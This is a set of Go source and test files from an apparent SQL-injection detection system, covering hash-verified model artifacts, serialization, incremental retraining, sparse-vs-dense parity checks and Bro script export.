		return nil, man, fmt.Errorf("core: artifact %s feature revision %s does not match manifest %s", man.Version, rev, man.FeatureRevision)
	}
	return m, man, nil
}

// LoadAny loads a model from either form: an artifact directory (routed
// through LoadArtifact, hash-verified) or a pre-refactor single-file
// model (legacy JSON, for which a manifest is synthesized from the file's
// own bytes so callers always get a version name and content hash).
func LoadAny(path string) (*Model, Manifest, error) {
	info, err := os.Stat(path)
	if err != nil {
		return nil, Manifest{}, err
	}
	if info.IsDir() {
		return LoadArtifact(path)
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		return nil, Manifest{}, err
	}
	m, err := Load(bytes.NewReader(raw))
	if err != nil {
		return nil, Manifest{}, err
	}
	sum := sha256.Sum256(raw)
	man := Manifest{
		SchemaVersion:   ManifestSchemaVersion,
		Version:         "file:" + filepath.Base(path),
		ModelSHA256:     hex.EncodeToString(sum[:]),
		FeatureRevision: feature.Revision(m.Features),
		Signatures:      len(m.Signatures),
		AttackSamples:   m.Stats.AttackSamples,
	}
	return m, man, nil
}
