package core

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/traffic"
)

// saveTestArtifact writes the shared small model as an artifact under a
// fresh temp dir and returns the artifact path and completed manifest.
func saveTestArtifact(t *testing.T, man Manifest) (string, Manifest) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "v000001")
	got, err := smallModel(t).SaveArtifact(dir, man)
	if err != nil {
		t.Fatalf("SaveArtifact: %v", err)
	}
	return dir, got
}

func TestArtifactRoundTrip(t *testing.T) {
	m := smallModel(t)
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(10)
	dir, man := saveTestArtifact(t, Manifest{
		Version:           "v000001",
		Parent:            "v000000",
		CorpusFingerprint: CorpusFingerprint(attacks),
	})
	if man.SchemaVersion != ManifestSchemaVersion || man.ModelSHA256 == "" || man.FeatureRevision == "" {
		t.Fatalf("manifest not completed: %+v", man)
	}
	if man.Signatures != len(m.Signatures) || man.AttackSamples != m.Stats.AttackSamples {
		t.Fatalf("manifest counts %+v", man)
	}

	loaded, gotMan, err := LoadArtifact(dir)
	if err != nil {
		t.Fatalf("LoadArtifact: %v", err)
	}
	if gotMan != man {
		t.Fatalf("manifest round-trip:\nsaved  %+v\nloaded %+v", man, gotMan)
	}
	// Identical verdicts on a mixed workload, like the legacy round-trip.
	reqs := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 81).Requests(100),
		traffic.NewGenerator(82).Requests(100)...)
	for _, r := range reqs {
		if m.Inspect(r).Alert != loaded.Inspect(r).Alert {
			t.Fatalf("verdicts differ on %q", r.RawQuery)
		}
	}
}

func TestArtifactImmutableAndAtomic(t *testing.T) {
	dir, _ := saveTestArtifact(t, Manifest{Version: "v000001"})
	// Immutable: a second save to the same path must refuse, leaving the
	// original loadable.
	if _, err := smallModel(t).SaveArtifact(dir, Manifest{Version: "v000009"}); err == nil {
		t.Fatal("overwriting an artifact must fail")
	}
	if _, man, err := LoadArtifact(dir); err != nil || man.Version != "v000001" {
		t.Fatalf("original artifact damaged by refused overwrite: %v %+v", err, man)
	}
	// Atomic: no stray staging directories survive, success or failure.
	entries, err := os.ReadDir(filepath.Dir(dir))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), ".artifact-") {
			t.Fatalf("staging dir %s left behind", e.Name())
		}
	}
	// A version is mandatory — nothing is written without one.
	empty := filepath.Join(t.TempDir(), "unversioned")
	if _, err := smallModel(t).SaveArtifact(empty, Manifest{}); err == nil {
		t.Fatal("versionless manifest must be rejected")
	}
	if _, err := os.Stat(empty); !os.IsNotExist(err) {
		t.Fatalf("rejected save left %s behind (err %v)", empty, err)
	}
}

// TestLoadArtifactTruncated mirrors TestLoadTruncated for the artifact
// path: every strided prefix of the model member fails verification (the
// content hash catches what JSON decoding alone might not), and a missing
// or truncated manifest is an error too.
func TestLoadArtifactTruncated(t *testing.T) {
	dir, _ := saveTestArtifact(t, Manifest{Version: "v000001"})
	modelPath := filepath.Join(dir, ModelFile)
	full, err := os.ReadFile(modelPath)
	if err != nil {
		t.Fatal(err)
	}
	cuts := []int{0, 1, len(full) - 1}
	for n := 2; n < len(full)-1; n += 211 {
		cuts = append(cuts, n)
	}
	for _, n := range cuts {
		if err := os.WriteFile(modelPath, full[:n], 0o644); err != nil {
			t.Fatal(err)
		}
		if _, _, err := LoadArtifact(dir); err == nil {
			t.Fatalf("model truncated to %d of %d bytes: want error", n, len(full))
		}
	}
	if err := os.WriteFile(modelPath, full, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, _, err := LoadArtifact(dir); err != nil {
		t.Fatalf("restored artifact failed to load: %v", err)
	}

	manPath := filepath.Join(dir, ManifestFile)
	manRaw, err := os.ReadFile(manPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(manPath, manRaw[:len(manRaw)/2], 0o644); err != nil {
		t.Fatal(err)
	}
	if _, _, err := LoadArtifact(dir); err == nil {
		t.Fatal("truncated manifest: want error")
	}
	if err := os.Remove(manPath); err != nil {
		t.Fatal(err)
	}
	if _, _, err := LoadArtifact(dir); err == nil {
		t.Fatal("missing manifest: want error")
	}
}

// TestLoadArtifactCorrupted is the artifact counterpart of
// TestLoadCorrupted, with a stronger invariant: because the manifest pins
// the model's SHA-256, every flipped byte in the model member must be
// rejected outright — corruption can never ride a still-valid JSON
// document into the detector.
func TestLoadArtifactCorrupted(t *testing.T) {
	dir, _ := saveTestArtifact(t, Manifest{Version: "v000001"})
	modelPath := filepath.Join(dir, ModelFile)
	full, err := os.ReadFile(modelPath)
	if err != nil {
		t.Fatal(err)
	}
	for pos := 0; pos < len(full); pos += 149 {
		for _, flip := range []byte{0x01, 0x80, 0xff} {
			mut := append([]byte(nil), full...)
			mut[pos] ^= flip
			if err := os.WriteFile(modelPath, mut, 0o644); err != nil {
				t.Fatal(err)
			}
			if _, _, err := LoadArtifact(dir); err == nil {
				t.Fatalf("byte %d flipped by %#x: corrupted model accepted", pos, flip)
			}
		}
	}
}

func TestLoadArtifactManifestMismatches(t *testing.T) {
	rewrite := func(t *testing.T, dir, from, to string) {
		t.Helper()
		manPath := filepath.Join(dir, ManifestFile)
		raw, err := os.ReadFile(manPath)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Contains(raw, []byte(from)) {
			t.Fatalf("manifest lacks %q:\n%s", from, raw)
		}
		raw = bytes.Replace(raw, []byte(from), []byte(to), 1)
		if err := os.WriteFile(manPath, raw, 0o644); err != nil {
			t.Fatal(err)
		}
	}

	t.Run("schema", func(t *testing.T) {
		dir, _ := saveTestArtifact(t, Manifest{Version: "v000001"})
		rewrite(t, dir, `"schemaVersion": 1`, `"schemaVersion": 99`)
		if _, _, err := LoadArtifact(dir); err == nil || !strings.Contains(err.Error(), "schema") {
			t.Fatalf("wrong-schema manifest: %v", err)
		}
	})
	t.Run("signature count", func(t *testing.T) {
		dir, _ := saveTestArtifact(t, Manifest{Version: "v000001"})
		rewrite(t, dir, `"signatures": `, `"signatures": 1`)
		if _, _, err := LoadArtifact(dir); err == nil || !strings.Contains(err.Error(), "signatures") {
			t.Fatalf("signature-count mismatch: %v", err)
		}
	})
	t.Run("hash", func(t *testing.T) {
		dir, man := saveTestArtifact(t, Manifest{Version: "v000001"})
		flipped := "f" + man.ModelSHA256[1:]
		if man.ModelSHA256[0] == 'f' {
			flipped = "0" + man.ModelSHA256[1:]
		}
		rewrite(t, dir, man.ModelSHA256, flipped)
		if _, _, err := LoadArtifact(dir); err == nil || !strings.Contains(err.Error(), "hash") {
			t.Fatalf("hash mismatch: %v", err)
		}
	})
}

// TestLoadAnyAndShim pins the compatibility surface: LoadAny handles both
// a legacy single-file model (synthesizing a file: manifest) and an
// artifact directory, and core.LoadFile still loads pre-refactor files.
func TestLoadAnyAndShim(t *testing.T) {
	m := smallModel(t)
	file := filepath.Join(t.TempDir(), "legacy.json")
	if err := m.SaveFile(file); err != nil {
		t.Fatal(err)
	}

	lm, lman, err := LoadAny(file)
	if err != nil {
		t.Fatalf("LoadAny(file): %v", err)
	}
	if lman.Version != "file:legacy.json" || lman.ModelSHA256 == "" || lman.Signatures != len(m.Signatures) {
		t.Fatalf("synthesized manifest %+v", lman)
	}
	if len(lm.Signatures) != len(m.Signatures) {
		t.Fatal("legacy model loaded wrong")
	}

	dir, man := saveTestArtifact(t, Manifest{Version: "v000001"})
	_, dman, err := LoadAny(dir)
	if err != nil {
		t.Fatalf("LoadAny(dir): %v", err)
	}
	if dman != man {
		t.Fatalf("LoadAny(dir) manifest %+v, want %+v", dman, man)
	}

	shim, err := LoadFile(file)
	if err != nil {
		t.Fatalf("LoadFile shim: %v", err)
	}
	if shim.Name() != m.Name() {
		t.Fatalf("shim Name %q, want %q", shim.Name(), m.Name())
	}
	if _, err := LoadFile("/nonexistent/dir-or-file"); err == nil {
		t.Fatal("missing path: want error")
	}
}

func TestCorpusFingerprint(t *testing.T) {
	reqs := attackgen.NewGenerator(attackgen.CrawlProfile(), 9).Requests(50)
	a, b := CorpusFingerprint(reqs), CorpusFingerprint(reqs)
	if a != b || a == "" {
		t.Fatalf("fingerprint not deterministic: %q vs %q", a, b)
	}
	// Order matters: the fingerprint records which samples in which order.
	swapped := append([]httpx.Request(nil), reqs...)
	swapped[0], swapped[1] = swapped[1], swapped[0]
	if CorpusFingerprint(swapped) == a {
		t.Fatal("fingerprint ignores order")
	}
	// Length prefixing keeps adjacent payloads from blurring together.
	if FingerprintStrings([]string{"ab", "c"}) == FingerprintStrings([]string{"a", "bc"}) {
		t.Fatal("length prefix missing: boundary collision")
	}
	if FingerprintStrings(nil) == FingerprintStrings([]string{""}) {
		t.Fatal("empty corpus and single empty payload must differ")
	}
}
