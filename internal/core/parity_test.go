package core

import (
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/traffic"
)

// requireIdenticalModels demands bit-identical trained models: same stats,
// same signature metadata, features, bias and weights, compared with ==
// rather than a tolerance. It then replays probe traffic through both and
// demands identical probabilities verdict for verdict. Shared by the
// sparse-vs-dense and serial-vs-parallel parity tests, which uphold the
// same exactness discipline.
func requireIdenticalModels(t *testing.T, label string, want, got *Model, probes []httpx.Request) {
	t.Helper()
	if len(want.Signatures) != len(got.Signatures) {
		t.Fatalf("%s: signature counts differ: want %d, got %d", label, len(want.Signatures), len(got.Signatures))
	}
	if want.Stats != got.Stats {
		t.Fatalf("%s: training stats differ:\nwant %+v\ngot  %+v", label, want.Stats, got.Stats)
	}
	for i, ws := range want.Signatures {
		gs := got.Signatures[i]
		if ws.ID != gs.ID || ws.SampleWeight != gs.SampleWeight || ws.BiclusterFeatures != gs.BiclusterFeatures {
			t.Fatalf("%s: signature %d metadata differs: want %+v, got %+v", label, i, ws, gs)
		}
		if len(ws.Features) != len(gs.Features) {
			t.Fatalf("%s: signature %d: feature counts differ (want %d, got %d)", label, ws.ID, len(ws.Features), len(gs.Features))
		}
		for k := range ws.Features {
			if ws.Features[k] != gs.Features[k] {
				t.Fatalf("%s: signature %d: feature %d differs (want %d, got %d)", label, ws.ID, k, ws.Features[k], gs.Features[k])
			}
		}
		if ws.Model.Bias != gs.Model.Bias {
			t.Fatalf("%s: signature %d: bias differs (want %v, got %v)", label, ws.ID, ws.Model.Bias, gs.Model.Bias)
		}
		for k := range ws.Model.Weights {
			if ws.Model.Weights[k] != gs.Model.Weights[k] {
				t.Fatalf("%s: signature %d: weight %d differs (want %v, got %v)", label, ws.ID, k, ws.Model.Weights[k], gs.Model.Weights[k])
			}
		}
	}
	for _, req := range probes {
		wp := want.Probabilities(req)
		gp := got.Probabilities(req)
		for i := range wp {
			if wp[i] != gp[i] {
				t.Fatalf("%s: probability differs on %q: want %v, got %v", label, req.Payload(), wp[i], gp[i])
			}
		}
	}
}

// TestTrainBackingParity trains the full pipeline twice on the same corpus —
// once on the default CSR backing, once on the dense reference — and demands
// bit-identical signatures. The sparse kernels are written so that they
// accumulate the same floating-point terms in the same order as the dense
// code (skipped terms are exact zeros), which is what makes == comparison
// possible instead of a tolerance.
func TestTrainBackingParity(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 11).Requests(600)
	benign := traffic.NewGenerator(12).Requests(800)

	sparse, err := Train(attacks, benign, Config{})
	if err != nil {
		t.Fatalf("sparse Train: %v", err)
	}
	dense, err := Train(attacks, benign, Config{DenseBacking: true})
	if err != nil {
		t.Fatalf("dense Train: %v", err)
	}

	// The two models must also agree verdict for verdict at serve time.
	probes := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 13).Requests(150),
		traffic.NewGenerator(14).Requests(300)...,
	)
	requireIdenticalModels(t, "sparse-vs-dense", sparse, dense, probes)
}

// TestSparseScoringMatchesDenseScoring pins the serving hot path (sparse
// feature vector + per-signature weight index) to the dense reference
// (full vector + restricted dot product) on one trained model.
func TestSparseScoringMatchesDenseScoring(t *testing.T) {
	m := smallModel(t)
	probes := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 21).Requests(200),
		traffic.NewGenerator(22).Requests(400)...,
	)
	for _, req := range probes {
		full := m.Vector(req)
		cols, vals := m.SparseVector(req)
		for _, s := range m.Signatures {
			dense := s.Probability(full)
			sparse := s.ProbabilitySparse(cols, vals)
			if dense != sparse {
				t.Fatalf("signature %d on %q: dense %v, sparse %v", s.ID, req.Payload(), dense, sparse)
			}
		}
	}
}
