package core

import (
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/traffic"
)

// TestTrainBackingParity trains the full pipeline twice on the same corpus —
// once on the default CSR backing, once on the dense reference — and demands
// bit-identical signatures. The sparse kernels are written so that they
// accumulate the same floating-point terms in the same order as the dense
// code (skipped terms are exact zeros), which is what makes == comparison
// possible instead of a tolerance.
func TestTrainBackingParity(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 11).Requests(600)
	benign := traffic.NewGenerator(12).Requests(800)

	sparse, err := Train(attacks, benign, Config{})
	if err != nil {
		t.Fatalf("sparse Train: %v", err)
	}
	dense, err := Train(attacks, benign, Config{DenseBacking: true})
	if err != nil {
		t.Fatalf("dense Train: %v", err)
	}

	if len(sparse.Signatures) != len(dense.Signatures) {
		t.Fatalf("signature counts differ: sparse %d, dense %d", len(sparse.Signatures), len(dense.Signatures))
	}
	if sparse.Stats != dense.Stats {
		t.Fatalf("training stats differ:\nsparse %+v\ndense  %+v", sparse.Stats, dense.Stats)
	}
	for i, ss := range sparse.Signatures {
		ds := dense.Signatures[i]
		if ss.ID != ds.ID || ss.SampleWeight != ds.SampleWeight || ss.BiclusterFeatures != ds.BiclusterFeatures {
			t.Fatalf("signature %d metadata differs: sparse %+v, dense %+v", i, ss, ds)
		}
		if len(ss.Features) != len(ds.Features) {
			t.Fatalf("signature %d: feature counts differ (sparse %d, dense %d)", ss.ID, len(ss.Features), len(ds.Features))
		}
		for k := range ss.Features {
			if ss.Features[k] != ds.Features[k] {
				t.Fatalf("signature %d: feature %d differs (sparse %d, dense %d)", ss.ID, k, ss.Features[k], ds.Features[k])
			}
		}
		if ss.Model.Bias != ds.Model.Bias {
			t.Fatalf("signature %d: bias differs (sparse %v, dense %v)", ss.ID, ss.Model.Bias, ds.Model.Bias)
		}
		for k := range ss.Model.Weights {
			if ss.Model.Weights[k] != ds.Model.Weights[k] {
				t.Fatalf("signature %d: weight %d differs (sparse %v, dense %v)", ss.ID, k, ss.Model.Weights[k], ds.Model.Weights[k])
			}
		}
	}

	// The two models must also agree verdict for verdict at serve time.
	probes := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 13).Requests(150),
		traffic.NewGenerator(14).Requests(300)...,
	)
	for _, req := range probes {
		sp := sparse.Probabilities(req)
		dp := dense.Probabilities(req)
		for i := range sp {
			if sp[i] != dp[i] {
				t.Fatalf("probability differs on %q: sparse %v, dense %v", req.Payload(), sp[i], dp[i])
			}
		}
	}
}

// TestSparseScoringMatchesDenseScoring pins the serving hot path (sparse
// feature vector + per-signature weight index) to the dense reference
// (full vector + restricted dot product) on one trained model.
func TestSparseScoringMatchesDenseScoring(t *testing.T) {
	m := smallModel(t)
	probes := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 21).Requests(200),
		traffic.NewGenerator(22).Requests(400)...,
	)
	for _, req := range probes {
		full := m.Vector(req)
		cols, vals := m.SparseVector(req)
		for _, s := range m.Signatures {
			dense := s.Probability(full)
			sparse := s.ProbabilitySparse(cols, vals)
			if dense != sparse {
				t.Fatalf("signature %d on %q: dense %v, sparse %v", s.ID, req.Payload(), dense, sparse)
			}
		}
	}
}
