package core

import (
	"encoding/json"
	"fmt"
	"io"
	"os"

	"psigene/internal/feature"
	"psigene/internal/ml"
)

// modelJSON is the serialized form of a trained signature set. Only what
// the runtime engine needs is persisted: the observed feature set and the
// signatures. Training state (for incremental updates) is not serialized;
// a loaded model detects but cannot Update.
type modelJSON struct {
	Version    int             `json:"version"`
	Features   []featureJSON   `json:"features"`
	Signatures []signatureJSON `json:"signatures"`
	Binary     bool            `json:"binaryFeatures,omitempty"`
	Stats      TrainStats      `json:"stats"`
}

type featureJSON struct {
	Name    string `json:"name"`
	Source  int    `json:"source"`
	Word    string `json:"word,omitempty"`
	Pattern string `json:"pattern,omitempty"`
}

type signatureJSON struct {
	ID                int       `json:"id"`
	SampleWeight      float64   `json:"sampleWeight"`
	BiclusterFeatures int       `json:"biclusterFeatures"`
	Features          []int     `json:"features"`
	Bias              float64   `json:"bias"`
	Weights           []float64 `json:"weights"`
	Threshold         float64   `json:"threshold"`
}

const modelVersion = 1

// Save writes the model to w as JSON.
func (m *Model) Save(w io.Writer) error {
	out := modelJSON{Version: modelVersion, Binary: m.binary, Stats: m.Stats}
	for _, f := range m.Features.Features {
		out.Features = append(out.Features, featureJSON{
			Name: f.Name, Source: int(f.Source), Word: f.Word, Pattern: f.Pattern,
		})
	}
	for _, s := range m.Signatures {
		out.Signatures = append(out.Signatures, signatureJSON{
			ID:                s.ID,
			SampleWeight:      s.SampleWeight,
			BiclusterFeatures: s.BiclusterFeatures,
			Features:          s.Features,
			Bias:              s.Model.Bias,
			Weights:           s.Model.Weights,
			Threshold:         s.Threshold,
		})
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(out)
}

// SaveFile writes the model to path.
func (m *Model) SaveFile(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	if err := m.Save(f); err != nil {
		return fmt.Errorf("save model: %w", err)
	}
	return nil
}

// Load reads a model saved with Save. The result detects (Inspect,
// Probabilities) but does not retain training state, so Update returns an
// error.
func Load(r io.Reader) (*Model, error) {
	var in modelJSON
	if err := json.NewDecoder(r).Decode(&in); err != nil {
		return nil, fmt.Errorf("core: decode model: %w", err)
	}
	if in.Version != modelVersion {
		return nil, fmt.Errorf("core: unsupported model version %d", in.Version)
	}
	m := &Model{Stats: in.Stats, binary: in.Binary, threshold: 0.5}
	for _, f := range in.Features {
		m.Features.Features = append(m.Features.Features, feature.Feature{
			Name: f.Name, Source: feature.Source(f.Source), Word: f.Word, Pattern: f.Pattern,
		})
	}
	ex, err := feature.NewExtractor(m.Features)
	if err != nil {
		return nil, fmt.Errorf("core: rebuild extractor: %w", err)
	}
	m.extractor = ex
	for _, s := range in.Signatures {
		if len(s.Features) != len(s.Weights) {
			return nil, fmt.Errorf("core: signature %d has %d features but %d weights", s.ID, len(s.Features), len(s.Weights))
		}
		for _, j := range s.Features {
			if j < 0 || j >= m.Features.Len() {
				return nil, fmt.Errorf("core: signature %d references feature %d of %d", s.ID, j, m.Features.Len())
			}
		}
		m.Signatures = append(m.Signatures, &Signature{
			ID:                s.ID,
			SampleWeight:      s.SampleWeight,
			BiclusterFeatures: s.BiclusterFeatures,
			Features:          s.Features,
			Model:             &ml.LogisticModel{Bias: s.Bias, Weights: s.Weights},
			Threshold:         s.Threshold,
		})
	}
	if len(m.Signatures) == 0 {
		return nil, fmt.Errorf("core: model has no signatures")
	}
	return m, nil
}

// LoadFile reads a model from path. It is a compatibility shim over
// LoadAny: a pre-refactor single-file model loads unchanged, and a
// versioned artifact directory is routed through LoadArtifact (manifest
// read, content hash verified) with the manifest discarded. Callers that
// want the manifest use LoadAny or LoadArtifact directly.
func LoadFile(path string) (*Model, error) {
	m, _, err := LoadAny(path)
	return m, err
}
