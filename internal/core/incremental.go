package core

import (
	"errors"
	"fmt"

	"psigene/internal/cluster"
	"psigene/internal/httpx"
	"psigene/internal/normalize"
)

// Update implements the paper's incremental-learning use case
// (Experiment 2): fresh attack samples are fed into the trained model and
// the Θ parameters of the affected signatures are re-learned automatically.
// The biclusters themselves are kept fixed — each new sample is assigned to
// the bicluster whose signature gives it the highest probability — so only
// the logistic regressions retrain, which is what makes the update cheap
// enough to run periodically.
func (m *Model) Update(newAttacks []httpx.Request) error {
	if m.trainObserved == nil {
		return errors.New("core: model does not retain training state")
	}
	if len(newAttacks) == 0 {
		return nil
	}

	// Deduplicate incoming samples against each other.
	norm := make([]string, len(newAttacks))
	for i, r := range newAttacks {
		norm[i] = normalize.Normalize(r.Payload())
	}
	counts := make(map[string]float64, len(norm))
	order := make([]string, 0, len(norm))
	for _, s := range norm {
		if counts[s] == 0 {
			order = append(order, s)
		}
		counts[s]++
	}

	touched := make(map[int]bool)
	for _, s := range order {
		vec := m.extractor.Vector(s)
		if m.binary {
			for i, x := range vec {
				if x != 0 {
					vec[i] = 1
				}
			}
		}
		best, bestP := -1, -1.0
		for _, sig := range m.Signatures {
			if p := sig.Probability(vec); p > bestP {
				best, bestP = sig.ID, p
			}
		}
		if best < 0 {
			continue
		}
		m.extra[best] = append(m.extra[best], extraSample{vec: vec, w: counts[s]})
		touched[best] = true
	}

	// Retrain Θ for every signature that received samples.
	for i, sig := range m.Signatures {
		if !touched[sig.ID] {
			continue
		}
		b, ok := m.biclusterByID(sig.ID)
		if !ok {
			return fmt.Errorf("core: bicluster %d missing from clustering result", sig.ID)
		}
		newSig, err := trainSignature(m.trainObserved, m.trainWeights, m.benignMat, m.benignW, b, m.extra[sig.ID], m.cfg)
		if err != nil {
			return fmt.Errorf("retrain signature %d: %w", sig.ID, err)
		}
		newSig.Threshold = sig.Threshold // preserve any ROC tuning
		m.Signatures[i] = newSig
	}
	m.Stats.AttackSamples += len(newAttacks)
	return nil
}

func (m *Model) biclusterByID(id int) (b cluster.Bicluster, ok bool) {
	for _, c := range m.Biclustering.Biclusters {
		if c.ID == id {
			return c, true
		}
	}
	return b, false
}
