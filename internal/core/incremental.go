package core

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"

	"psigene/internal/cluster"
	"psigene/internal/httpx"
	"psigene/internal/matrix"
	"psigene/internal/normalize"
)

// Update implements the paper's incremental-learning use case
// (Experiment 2): fresh attack samples are fed into the trained model and
// the Θ parameters of the affected signatures are re-learned automatically.
// The biclusters themselves are kept fixed — each new sample is assigned to
// the bicluster whose signature gives it the highest probability — so only
// the logistic regressions retrain, which is what makes the update cheap
// enough to run periodically: the continuous lifecycle (internal/lifecycle)
// calls it every round. Touched signatures retrain shard-parallel under
// Config.Parallelism with bit-identical results at every worker count.
func (m *Model) Update(newAttacks []httpx.Request) error {
	if m.trainObserved == nil {
		return errors.New("core: model does not retain training state")
	}
	if len(newAttacks) == 0 {
		return nil
	}

	// Deduplicate incoming samples against each other.
	norm := make([]string, len(newAttacks))
	for i, r := range newAttacks {
		norm[i] = normalize.Normalize(r.Payload())
	}
	counts := make(map[string]float64, len(norm))
	order := make([]string, 0, len(norm))
	for _, s := range norm {
		if counts[s] == 0 {
			order = append(order, s)
		}
		counts[s]++
	}

	touched := make(map[int]bool)
	for _, s := range order {
		vec := m.extractor.Vector(s)
		if m.binary {
			for i, x := range vec {
				if x != 0 {
					vec[i] = 1
				}
			}
		}
		best, bestP := -1, -1.0
		for _, sig := range m.Signatures {
			if p := sig.Probability(vec); p > bestP {
				best, bestP = sig.ID, p
			}
		}
		if best < 0 {
			continue
		}
		m.extra[best] = append(m.extra[best], extraSample{vec: vec, w: counts[s]})
		touched[best] = true
	}

	// Retrain Θ for every signature that received samples. Each touched
	// signature is an independent shard — trainSignature only reads the
	// shared matrices — so the retrains fan out over Config.Parallelism
	// workers exactly like the initial trainSignatures pass: results land
	// in preassigned slots and errors report for the lowest shard index,
	// so the updated model is bit-identical at every worker count.
	type shard struct {
		idx int // index into m.Signatures
		b   cluster.Bicluster
	}
	var shards []shard
	for i, sig := range m.Signatures {
		if !touched[sig.ID] {
			continue
		}
		b, ok := m.biclusterByID(sig.ID)
		if !ok {
			return fmt.Errorf("core: bicluster %d missing from clustering result", sig.ID)
		}
		shards = append(shards, shard{idx: i, b: b})
	}
	retrained := make([]*Signature, len(shards))
	errs := make([]error, len(shards))
	workers := matrix.ResolveWorkers(m.cfg.Parallelism, len(shards))
	if workers <= 1 {
		for k, sh := range shards {
			retrained[k], errs[k] = trainSignature(m.trainObserved, m.trainWeights, m.benignMat, m.benignW, sh.b, m.extra[sh.b.ID], m.cfg)
		}
	} else {
		var next atomic.Int64
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for {
					k := int(next.Add(1)) - 1
					if k >= len(shards) {
						return
					}
					sh := shards[k]
					retrained[k], errs[k] = trainSignature(m.trainObserved, m.trainWeights, m.benignMat, m.benignW, sh.b, m.extra[sh.b.ID], m.cfg)
				}
			}()
		}
		wg.Wait()
	}
	for k, err := range errs {
		if err != nil {
			return fmt.Errorf("retrain signature %d: %w", shards[k].b.ID, err)
		}
	}
	for k, sh := range shards {
		retrained[k].Threshold = m.Signatures[sh.idx].Threshold // preserve any ROC tuning
		m.Signatures[sh.idx] = retrained[k]
	}
	m.Stats.AttackSamples += len(newAttacks)
	return nil
}

func (m *Model) biclusterByID(id int) (b cluster.Bicluster, ok bool) {
	for _, c := range m.Biclustering.Biclusters {
		if c.ID == id {
			return c, true
		}
	}
	return b, false
}
