package core

import (
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/ids"
	"psigene/internal/traffic"
)

func TestTrainWithClusterCap(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 51).Requests(1500)
	benign := traffic.NewGenerator(52).Requests(1000)
	m, err := Train(attacks, benign, Config{MaxClusterSamples: 200})
	if err != nil {
		t.Fatalf("Train with cap: %v", err)
	}
	if len(m.Signatures) == 0 {
		t.Fatal("no signatures under cluster cap")
	}
	// Every unique sample must be accounted for: clustered, assigned, or
	// noise.
	var covered int
	for _, b := range m.Biclustering.Biclusters {
		covered += len(b.RowLeaves)
	}
	covered += len(m.Biclustering.Unclustered)
	if covered != m.Stats.UniqueAttackSamples {
		t.Fatalf("coverage %d != unique samples %d", covered, m.Stats.UniqueAttackSamples)
	}

	// Capped model must still detect well.
	test := attackgen.NewGenerator(attackgen.SQLMapProfile(), 53).Requests(300)
	r := ids.Evaluate(m, test)
	if r.TPR() < 0.5 {
		t.Fatalf("capped model TPR=%.3f", r.TPR())
	}
}

func TestTrainCapDisabled(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 61).Requests(300)
	benign := traffic.NewGenerator(62).Requests(300)
	m, err := Train(attacks, benign, Config{MaxClusterSamples: -1})
	if err != nil {
		t.Fatalf("Train without cap: %v", err)
	}
	if len(m.Signatures) == 0 {
		t.Fatal("no signatures")
	}
}

func TestCapAndUncappedAgreeOnSmallCorpus(t *testing.T) {
	// When the corpus is below the cap, capped and uncapped paths are the
	// same code path and must agree exactly.
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 71).Requests(400)
	benign := traffic.NewGenerator(72).Requests(400)
	a, err := Train(attacks, benign, Config{MaxClusterSamples: 100000})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Train(attacks, benign, Config{MaxClusterSamples: -1})
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Signatures) != len(b.Signatures) {
		t.Fatalf("signature counts differ: %d vs %d", len(a.Signatures), len(b.Signatures))
	}
}
