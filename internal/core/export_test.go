package core

import (
	"fmt"
	"strings"
	"testing"
)

func TestExportBro(t *testing.T) {
	m := smallModel(t)
	script := m.ExportBro()

	for _, want := range []string{
		"module PSigene;",
		"function count_all",
		"function sigmoid",
		"event http_request",
		"SQL_Injection_Attack",
	} {
		if !strings.Contains(script, want) {
			t.Fatalf("exported script missing %q", want)
		}
	}
	// Every signature appears with its bias and feature patterns.
	for _, s := range m.Signatures {
		if !strings.Contains(script, fmt.Sprintf("sig%d_bias", s.ID)) {
			t.Fatalf("signature %d bias missing", s.ID)
		}
		for i := range s.Features {
			if !strings.Contains(script, fmt.Sprintf("sig%d_f%d", s.ID, i)) {
				t.Fatalf("signature %d feature %d missing", s.ID, i)
			}
		}
		if !strings.Contains(script, fmt.Sprintf(">= %.4f", s.Threshold)) {
			t.Fatalf("signature %d threshold missing", s.ID)
		}
	}
	// Bro pattern literals cannot contain a bare forward slash.
	for _, line := range strings.Split(script, "\n") {
		if !strings.Contains(line, " = /") {
			continue
		}
		body := line[strings.Index(line, " = /")+4:]
		if end := strings.Index(body, "/;"); end >= 0 {
			body = body[:end]
		}
		for i := 0; i < len(body); i++ {
			if body[i] == '/' && (i == 0 || body[i-1] != '\\') {
				t.Fatalf("unescaped slash in pattern line: %s", line)
			}
		}
	}
}

func TestExportBroDeterministic(t *testing.T) {
	m := smallModel(t)
	if m.ExportBro() != m.ExportBro() {
		t.Fatal("export must be deterministic")
	}
}
