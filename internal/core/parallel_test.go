package core

import (
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/traffic"
)

